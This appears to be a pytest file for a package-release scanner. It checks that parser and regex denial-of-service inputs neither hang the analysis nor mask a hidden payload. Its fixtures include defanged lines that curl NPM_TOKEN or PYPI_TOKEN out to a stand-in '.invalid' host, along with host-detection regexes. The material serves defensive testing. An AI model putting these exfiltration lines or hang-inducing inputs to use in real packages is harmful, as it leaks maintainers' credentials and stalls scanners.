"""Whole releases holding issue 9's attacks: rules neither fail nor hang, and a payload elsewhere
in the same release is still found.

Fixtures are synthetic and defanged (hosts under `.invalid`). The hang guard is generous: speed
is the benchmarks' business, these tests only prove the analysis finishes and fails closed.
"""

from __future__ import annotations

import re
import time

import pytest

from watcher import gaps
from watcher.models import ArtifactKind, Ecosystem, FileEntry, Finding, Snapshot
from watcher.parse import budget
from watcher.pipeline import artifact_diff
from watcher.rules import ReleaseContext, run_rules
from watcher.rules import code as code_rules

HANG = 20.0

PACKAGE_JSON = b'{"name": "srv", "version": "1.0.1", "main": "index.js"}'
JS_PAYLOAD = (
    "const cp = require('child_process');\n"
    "cp.exec('curl https://drop.exfil.invalid/x?t=' + process.env.NPM_TOKEN);\n"
)
PY_PAYLOAD = (
    "import os, subprocess\n"
    "subprocess.run(['curl', 'https://drop.exfil.invalid/' + os.environ['PYPI_TOKEN']])\n"
)


def _run(
    ecosystem: Ecosystem, kind: ArtifactKind, old: dict[str, bytes], new: dict[str, bytes]
) -> tuple[list[Finding], list[gaps.Gap], float]:
    old_snap = Snapshot("srv-1.0.0", kind, {p: FileEntry.of(p, d) for p, d in old.items()})
    new_snap = Snapshot("srv-1.0.1", kind, {p: FileEntry.of(p, d) for p, d in new.items()})
    ctx = ReleaseContext(ecosystem, "srv", "1.0.0", "1.0.1", (artifact_diff(old_snap, new_snap),))
    start = time.monotonic()
    with budget.release_budget(), gaps.collecting() as found:
        findings, failures = run_rules(ctx)
    assert failures == []
    return findings, list(found), time.monotonic() - start


def _npm(hostile_path: str, hostile: str) -> tuple[list[Finding], list[gaps.Gap], float]:
    old = {"package.json": PACKAGE_JSON, "index.js": b"module.exports = 1;\n"}
    new = {
        **old,
        hostile_path: hostile.encode(),
        "lib/payload.js": JS_PAYLOAD.encode(),
    }
    return _run(Ecosystem.NPM, ArtifactKind.NPM_TARBALL, old, new)


def _payload_found(findings: list[Finding], path: str) -> bool:
    return any(f.path == path and f.rule == "code.process-exec" for f in findings)


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("require(" + "(" * 3000 + "'x'" + ")" * 3000 + ")\n", "nesting deeper than 200"),
        ("(" * 100_000 + "\n", "a syntax error spans more than 4096 tokens"),
        ("x = " + "(" * 100_000 + "1" + ")" * 100_000, "nesting deeper than 16384"),
    ],
    ids=["deep-arguments", "open-parens", "balanced-parens"],
)
def test_npm_release_with_a_parser_attack(source: str, reason: str) -> None:
    # The rules only parse a file whose added lines hold something they look for.
    findings, found, took = _npm("lib/evil.js", "require('child_process');\n" + source)
    assert took < HANG
    assert [g.path for g in found] == ["lib/evil.js"]
    assert reason in found[0].reason and "lib/evil.js" in found[0].reason
    assert _payload_found(findings, "lib/payload.js")


def test_npm_release_with_a_deep_member_chain_is_analysed_in_full() -> None:
    findings, found, took = _npm("lib/chain.js", "a" + "\n.b" * 3000 + "()\n")
    assert took < HANG
    assert found == []
    assert _payload_found(findings, "lib/payload.js")


@pytest.mark.parametrize(
    "hostile",
    [
        # `_URL_HOST` takes the whole string as a URL; `_HOST_IN` then tried each of its
        # 120,000 positions, each scanning to the `..` (minutes, issue 9).
        "'https://" + "a" * 120_000 + "..invalid'",
        "'https://" + "a-" * 60_000 + "..invalid'",
        "'https://" + "a." * 60_000 + ".invalid'",
        # A line the parser cannot read is judged by the text patterns themselves.
        "} ) ( 'https://" + "a" * 120_000 + "..invalid' (",
        "const o = {host: '" + "a" * 120_000 + "..invalid'};",
    ],
    ids=["url-label", "url-hyphens", "url-labels", "text-rules", "host-key"],
)
def test_npm_release_with_a_host_shaped_string(hostile: str) -> None:
    findings, found, took = _npm("lib/hosts.js", hostile + "\n")
    assert took < HANG
    assert found == []
    assert _payload_found(findings, "lib/payload.js")


def test_pypi_release_with_a_setup_py_deeper_than_311_accepts() -> None:
    old = {"PKG-INFO": b"Metadata-Version: 2.1\nName: srv\nVersion: 1.0.0\n"}
    setup = "from setuptools import setup\nx = a" + ".b" * 5000 + "\nsetup(name='srv')\n"
    new = {
        "PKG-INFO": b"Metadata-Version: 2.1\nName: srv\nVersion: 1.0.1\n",
        "setup.py": setup.encode(),
        "srv/payload.py": PY_PAYLOAD.encode(),
    }
    findings, found, took = _run(Ecosystem.PYPI, ArtifactKind.SDIST, old, new)
    assert took < HANG
    assert {g.path for g in found} == {"setup.py"}
    assert all("nesting deeper than Python 3.11 accepts" in g.reason for g in found)
    assert _payload_found(findings, "srv/payload.py")


def test_pypi_release_of_honest_modern_python_has_no_gap_and_no_finding() -> None:
    modern = (
        "type Pair[T] = tuple[T, T]\n\n"
        "def first[T](p: Pair[T]) -> T:\n"
        '    return p[0]\n\nnames = ["a"]\nlabel = f"{", ".join(f"{n!r}" for n in names)}"\n'
        "def kind(x):\n    match x:\n        case {'k': v}:\n            return v\n"
        "        case _:\n            return None\n"
    )
    old = {"srv/__init__.py": b"VERSION = '1.0.0'\n"}
    new = {"srv/__init__.py": b"VERSION = '1.0.1'\n", "srv/modern.py": modern.encode()}
    findings, found, _ = _run(Ecosystem.PYPI, ArtifactKind.WHEEL, old, new)
    assert found == []
    assert [f for f in findings if f.path == "srv/modern.py"] == []


# -- the host patterns match what they matched before, on realistic text -----------------------

#: The patterns as they were before issue 9 (unbounded), kept as the reference.
OLD_HOST_IN = re.compile(r"(?:\d{1,3}\.){3}\d{1,3}|[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}", re.IGNORECASE)
OLD_URL_HOST = re.compile(
    r"https?://(?!localhost\b|127\.0\.0\.1|0\.0\.0\.0|example\.(?:com|org))[\w.-]+\.[a-z]{2,}"
)
REALISTIC = [
    "https://api.example.invalid/v1/x",
    "http://drop.exfil.invalid",
    "'https://hooks.slack.invalid/services/T0/B0'",
    "host: 'db.internal.corp.invalid'",
    'hostname = "smtp.mail.invalid"',
    "fetch('https://x-y.z-w.invalid:8443/path?q=1')",
    "http://10.0.0.1:8080/",
    "'http://192.168.1.20/'",
    "https://user@git.host.invalid/repo.git",
    "https://a.b.c.d.e.f.g.invalid",
    "https://sub_domain.host.invalid",
    "http://foo.com.123",
    "https://localhost:3000",
    "https://example.com/x",
    "'1234.5.6.7'",
    "https://xn--bcher-kva.invalid",
    "http://EXAMPLE.INVALID/UP",
    "s3.amazonaws.com",
]


@pytest.mark.parametrize("text", REALISTIC)
def test_bounded_host_patterns_match_as_before(text: str) -> None:
    for old, new in ((OLD_HOST_IN, code_rules._HOST_IN), (OLD_URL_HOST, code_rules._URL_HOST)):
        before, after = old.search(text), new.search(text)
        assert (before and before.group(0)) == (after and after.group(0)), (old.pattern, text)
    assert bool(code_rules._DOTTED.fullmatch(text)) == bool(
        re.fullmatch(r"[\w-]+(?:\.[\w-]+)+", text)
    )
